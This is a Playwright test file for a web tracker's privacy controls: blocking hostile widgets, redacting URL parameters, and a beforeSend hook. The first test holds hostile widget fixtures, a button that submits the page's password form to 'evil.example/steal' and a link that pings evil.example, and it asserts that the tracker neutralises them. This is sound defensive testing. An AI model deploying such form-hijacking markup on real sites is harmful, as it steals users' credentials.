// Issue 22, the glue's privacy controls in Chromium: a hostile `ux` widget cannot use the page's
// own form or report to another origin; settings.redact; settings.beforeSend.
import { test, expect, servePage, API, OTHER_ORIGIN, ADMIN_HEADERS } from './helpers';

// A page with its own Tracardi options (`opts` is a JS expression) and the loader snippet.
const optionsPage = (opts: string, body = '', html = 'test page') => `<!doctype html>
<html><head><meta charset="utf-8"><title>t</title>
<script>var options = ${opts};</script>
<script src="/tracker/loader.min.js"></script>
<script>${body}</script></head><body>${html}</body></html>`;
const tracker = (extra = '') => `{tracker: {url: {script: location.origin + '/tracker', api: location.origin},
  source: {id: 'demo-source'}${extra}}}`;

// A compromised workflow answers widgets that try to use the page's login form (the button's
// form* attributes submit it to another origin with the typed password) and to report clicks to
// another origin (ping). Before issue 22 only on* attributes, srcdoc and nonce were refused.
test('a hostile widget cannot submit the page\'s form or ping another origin', async ({ page, collector, request }) => {
  const evil: string[] = [];
  const track = (url: string) => { if (new URL(url).hostname === 'evil.example') evil.push(url); };
  page.on('request', (r) => track(r.url()));
  await page.route('http://evil.example/**', (r) => { track(r.request().url()); return r.fulfill({ body: 'stolen' }); });
  const login = '<form id="login" action="/login-sink" method="post"><input name="password" value="hunter2">' +
    '<button id="own">log in</button></form><p id="anchor">x</p>';
  expect((await request.post(`${API}/__admin/ux`, { headers: ADMIN_HEADERS, data: { source: 'demo-source', ux: [
    { tag: 'button', props: { id: 'w-submit', form: 'login', formaction: 'http://evil.example/steal',
      formmethod: 'post', formtarget: '_self', formnovalidate: '' }, content: 'Claim your prize' },
    { tag: 'button', props: { id: 'w-typed', type: 'submit', form: 'login' }, content: 'Continue' },
    { tag: 'a', props: { id: 'w-ping', href: '#anchor', ping: 'http://evil.example/ping' }, content: 'details' },
  ] } })).status()).toBe(200);
  await servePage(page, '**/hostile-ux.html', optionsPage(tracker(),
    `window.tracker.track('hostile-view', {});
     window.__prevent = true;
     document.addEventListener('submit', function (e) {
       window.__submits = (window.__submits || 0) + 1;
       if (window.__prevent) e.preventDefault();
     }, true);`,
    login));
  await page.goto('/hostile-ux.html');
  await collector.waitFor('hostile-view');
  await expect(page.locator('#w-submit')).toHaveCount(1);
  await expect(page.locator('#w-ping')).toHaveCount(1);

  // The widget's link only scrolls, without a ping; its type=submit button does not submit.
  await page.click('#w-ping');
  await page.click('#w-typed');
  await page.waitForTimeout(500);
  expect(evil, 'no ping to another origin').toEqual([]);
  expect(await page.evaluate(() => (window as any).__submits ?? 0), 'no submission of the page\'s form').toBe(0);
  // Not stopped by the page's listener: a submission would now leave for evil.example/steal.
  await page.evaluate(() => { (window as any).__prevent = false; });
  await page.click('#w-submit');
  await page.waitForTimeout(500);
  expect(evil, 'the form was not sent to another origin').toEqual([]);
  expect(page.url()).toMatch(/\/hostile-ux\.html(#anchor)?$/);
  expect(await page.evaluate(() => (window as any).__submits ?? 0)).toBe(0);
  expect(await page.getAttribute('#w-submit', 'type')).toBe('button');
  expect(await page.getAttribute('#w-submit', 'formaction')).toBeNull();
  expect(await page.getAttribute('#w-ping', 'ping')).toBeNull();
  // The page's own button still submits its own form (the listener counts it, and stops it).
  await page.evaluate(() => { (window as any).__prevent = true; });
  await page.click('#own');
  await expect.poll(() => page.evaluate(() => (window as any).__submits ?? 0)).toBe(1);
});

function trackBodies(page: import('@playwright/test').Page): string[] {
  const bodies: string[] = [];
  page.on('request', (r) => {
    if (r.method() === 'POST' && new URL(r.url()).pathname === '/track') bodies.push(r.postData() || '');
  });
  return bodies;
}

// settings.redact: a sign-in link's token, an email address in the query, OAuth's fragment token
// and the referrer's token never leave the page: not in the page context of the first batch, not
// in a later page view of a client-side navigation.
test('settings.redact: the listed parameters are in no request body, page URL, referrer or SPA page view', async ({ page, collector, logs }) => {
  const bodies = trackBodies(page);
  await servePage(page, '**/redact.html*', optionsPage(tracker(`, settings: {pageViews: 'history',
    redact: {params: ['token', 'Email', 'access_token', 'q']}}`), `window.tracker.track('redact-view', {});`));
  await page.goto('/redact.html?TOKEN=s3cr3t-1&utm_source=news&email=jane%40example.com&x=1#access_token=s3cr3t-2&state=ok',
    { referer: `${OTHER_ORIGIN}/search?q=s3cr3t-3&hl=en` });
  const [view] = await collector.waitFor('redact-view');
  expect(view.context.page).toMatchObject({
    url: `${API}/redact.html?utm_source=news&x=1#state=ok`, hash: '#state=ok', path: '/redact.html',
    // Another host's referrer: its host is sent, its search query (q) is redacted.
    referer: { host: new URL(OTHER_ORIGIN).host, query: null } });
  await page.evaluate(() => history.pushState({}, '', '/redact.html?token=s3cr3t-4&step=2'));
  const [nav] = await collector.waitFor('page-view');
  expect((nav.context.page as any).url).toBe(`${API}/redact.html?step=2`);
  expect(bodies.length).toBeGreaterThan(0);
  expect(bodies.join('\n')).not.toMatch(/s3cr3t|jane/);
  expect(logs.tracker('error')).toEqual([]);
});

// settings.beforeSend: the page's hook edits events and drops some, for calls made before the
// tracker script ran as for live ones; a dropped fire event's promise resolves with status 0.
test('settings.beforeSend: edited events arrive edited, dropped ones never, a dropped fire resolves with status 0', async ({ page, collector, logs }) => {
  const bodies = trackBodies(page);
  await servePage(page, '**/before-send.html', optionsPage(tracker(`, settings: {beforeSend: function (e) {
      if (e.type === 'internal-debug') return null;
      if (e.properties && e.properties.email) e.properties.email = '(masked)';
      e.properties = Object.assign({}, e.properties, {screened: true});
      return e;
    }}`), `window.tracker.track('internal-debug', {secret: 'dropped-1'});
     window.tracker.track('signup', {email: 'jane@example.com', plan: 'pro'});`));
  await page.goto('/before-send.html');
  const [signup] = await collector.waitFor('signup');
  expect(signup.properties).toEqual({ email: '(masked)', plan: 'pro', screened: true });
  const dropped = await page.evaluate(() => window.tracker.track('internal-debug', { secret: 'dropped-2' }, { fire: true }));
  expect(dropped).toEqual({ status: 0, ok: false, data: null });
  const sent = await page.evaluate(() => window.tracker.track('checkout', { total: 3 }, { fire: true }));
  expect(sent?.status).toBe(200);
  const [checkout] = await collector.waitFor('checkout');
  expect(checkout.properties).toEqual({ total: 3, screened: true });
  expect(await collector.ofType('internal-debug')).toEqual([]);
  expect(bodies.join('\n')).not.toMatch(/dropped-|jane@/);
  expect(logs.tracker('error')).toEqual([]);
});
